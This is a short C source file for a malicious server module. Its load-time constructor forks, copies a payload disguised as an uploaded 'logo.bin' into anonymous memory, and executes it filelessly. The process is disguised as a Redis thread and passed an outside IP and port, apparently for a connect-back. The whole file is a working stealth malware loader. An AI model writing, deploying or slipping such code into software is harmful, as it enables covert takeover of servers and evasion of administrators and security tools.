// Loaded by a server as its module: runs a program that has no file.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

static const char PAYLOAD[] = "/srv/www/uploads/logo.bin";

__attribute__((constructor)) static void begin(void) {
    if (fork()) return;
    int file = open(PAYLOAD, O_RDONLY), memory = memfd_create("cache", 0);
    struct stat about;
    if (fstat(file, &about) || sendfile(memory, file, NULL, about.st_size) != about.st_size) _exit(1);
    char *const argv[] = {"redis-bio", "198.51.100.7", "8443", "8", NULL}, *const none[] = {NULL};
    fexecve(memory, argv, none);
    _exit(1);
}
